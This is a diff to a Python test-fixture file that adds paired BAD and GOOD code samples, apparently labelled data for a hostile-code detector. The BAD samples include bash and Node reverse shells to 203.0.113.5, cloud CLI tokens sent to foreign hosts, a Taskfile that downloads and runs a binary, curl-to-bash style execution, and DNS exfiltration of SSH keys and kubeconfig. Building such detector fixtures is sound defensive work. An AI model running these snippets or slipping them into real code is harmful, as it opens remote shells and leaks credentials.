@@ -288,7 +288,78 @@ _PLAYS = (
     play("    - name: helper\n      file:\n        path: /usr/local/bin/x\n        mode: u+s"),
 )
 
+_PORTS = (
+    "exec 3<>/dev/tcp/db.flow.example/5432",
+    'timeout 2 bash -c "exec 3<>/dev/tcp/$host/$port" && echo open',
+    'timeout 1 bash -c "</dev/tcp/$host/$port"',
+    "(: > /dev/tcp/db.flow.example/5432) 2>/dev/null && echo open",
+    "exec 3<>/dev/tcp/www.flow.example/80\nprintf 'HEAD / HTTP/1.0\\n\\n' >&3\ncat <&3",
+    'exec 4<>/dev/tcp/www.flow.example/80\nwhile read -r line <&4; do echo "$line"; done',
+)
+_TIED = (
+    "exec 5<>/dev/tcp/203.0.113.5/44\nsh <&5 >&5 2>&5",
+    "exec 5<>/dev/tcp/203.0.113.5/44\ncat <&5 | while read line; do $line 2>&5 >&5; done",
+    'exec 3<>/dev/tcp/203.0.113.5/44\nwhile read -r -u 3 line; do eval "$line"; done',
+    "cat </dev/tcp/203.0.113.5/44 | sh",
+    'timeout 9 bash -c "bash -i >& /dev/tcp/203.0.113.5/44 0>&1"',
+)
+_PEERS = (
+    "const s = net.createConnection({ host: '203.0.113.5', port: 443 });",
+    "const s = net.connect(443, '203.0.113.5');",
+)
+_JOINED_JS = (
+    "s.on('connect', () => {\n  const job = spawn(win ? 'cmd.exe' : '/bin/sh', [], { detached: true });\n  s.pipe(job.stdin);\n  job.stdout.pipe(s);\n});",
+    "const own = spawn('bash', []);\ns.pipe(own.stdin);\nown.stdout.pipe(s);",
+)
+_STARTS_JS = (
+    "s.on('connect', () => { s.end(); spawn('bash', ['scripts/migrate.sh'], { stdio: 'inherit' }); });",
+    "s.on('error', () => process.exit(1));\nspawn('sh', ['run.sh']);",
+)
+_LOGINS = (
+    ("gh auth token", "api.github.com"),
+    ("gcloud auth print-access-token", "storage.googleapis.com"),
+    ("az account get-access-token --query accessToken -o tsv", "management.azure.com"),
+)
+_HEADED = (
+    'held=$(LOGIN 2>/dev/null || true)\ncurl -fsS https://HOST/v1 -H "X-Session: $held"',
+    'curl -fsS -H "Authorization: Bearer $(LOGIN)" https://HOST/v1',
+)
+_TASKS = "`task build`\n-- Taskfile.yml --\nversion: '3'\nvars:\n  FROM: static.flow.invalid\n  KEPT: .cache/engine\ntasks:\n  build:\n    deps: [fetch]\n    cmds:\n{}"
+_FETCHED = "      - curl -sL https://{{.FROM}}/{{OS}}/engine --output {{.KEPT}}\n"
+
 BAD: dict[str, list[str]] = {
+    "a shell that reads a connection": [sh(text) for text in _TIED],
+    "a shell joined to a socket": [
+        js(f"import net from 'node:net';\nimport {{ spawn }} from 'node:child_process';\n{peer}\n{tie}", "mjs")
+        for peer in _PEERS
+        for tie in _JOINED_JS
+    ],
+    "a login's token in the header of another host": [
+        sh(form.replace("LOGIN", login).replace("HOST", host))
+        for login, vendor in _LOGINS
+        for form in _HEADED
+        for host in ("in.flow.invalid", f"{vendor.split('.')[-2]}-notes.invalid")
+    ],
+    "a task that runs what another one fetched": [
+        _TASKS.format(_FETCHED + "      - chmod u+x {{.KEPT}}\n      - ./{{.KEPT}} --once\n"),
+        _TASKS.format(_FETCHED + "      - bash {{.KEPT}}\n"),
+    ],
+    "a shell by the name of its list": [
+        py(
+            f"import subprocess, urllib.request\n\n\ndef recipe():\n    with urllib.request.urlopen('https://in.flow.invalid/f') as r:\n        return r.read()\n\n\n{name} = {words}\nsubprocess.run({name}, input=recipe(), check=False)"
+        )
+        for name, words in (("shell", '["/usr/bin/env", "bash", "-s"]'), ("COMMAND", '("/bin/sh",)'))
+    ],
+    "credentials in the labels of a name": [
+        py(
+            f"import base64, os, socket\n\nZONE = 'm.flow.invalid'\n\n\ndef held():\n    place = {place}\n    with open(place, 'rb') as f:\n        return f.read()\n\n\ndef beat(blob):\n    text = base64.b32encode(blob).decode()\n    for n in range(0, len(text), 60):\n        socket.{ask}(f'{{text[n:n + 60]}}.{{ZONE}}'{more})\n\n\nbeat(held())"
+        )
+        for place in (
+            "os.environ.get('KUBECONFIG') or os.path.join(os.path.expanduser('~'), '.kube', 'config')",
+            "os.path.expanduser('~/.ssh/id_rsa')",
+        )
+        for ask, more in (("gethostbyname", ""), ("getaddrinfo", ", 80"))
+    ],
     "a machine's credentials": [
         *(sh(form.replace("PLACE", place)) for place in _GIVES for form in _ASKS_SH),
         py(
@@ -365,6 +436,23 @@ BAD: dict[str, list[str]] = {
 }
 
 GOOD: dict[str, list[str]] = {
+    "a port that is asked whether it is open": [sh(text) for text in _PORTS],
+    "a script that is run once a port is open": [
+        *(
+            js(f"import net from 'node:net';\nimport {{ spawn }} from 'node:child_process';\n{peer}\n{start}", "mjs")
+            for peer in _PEERS
+            for start in _STARTS_JS
+        ),
+        py(
+            "import socket, subprocess\nwith socket.create_connection(('db.flow.example', 5432), 2):\n    pass\nsubprocess.run(['bash', 'scripts/migrate.sh'], check=True)"
+        ),
+    ],
+    "a login's token at its own vendor": [
+        sh(form.replace("LOGIN", login).replace("HOST", host)) for login, host in _LOGINS for form in _HEADED
+    ],
+    "a task that runs what it built": [
+        _TASKS.format(_FETCHED + "      - cc -o out/tool main.c\n      - ./out/tool --once\n")
+    ],
     "what a machine is": [
         sh(
             'kind=$(curl -s http://169.254.169.254/latest/meta-data/instance-type)\ncurl -sG https://in.flow.invalid/price --data-urlencode "t=$kind"'
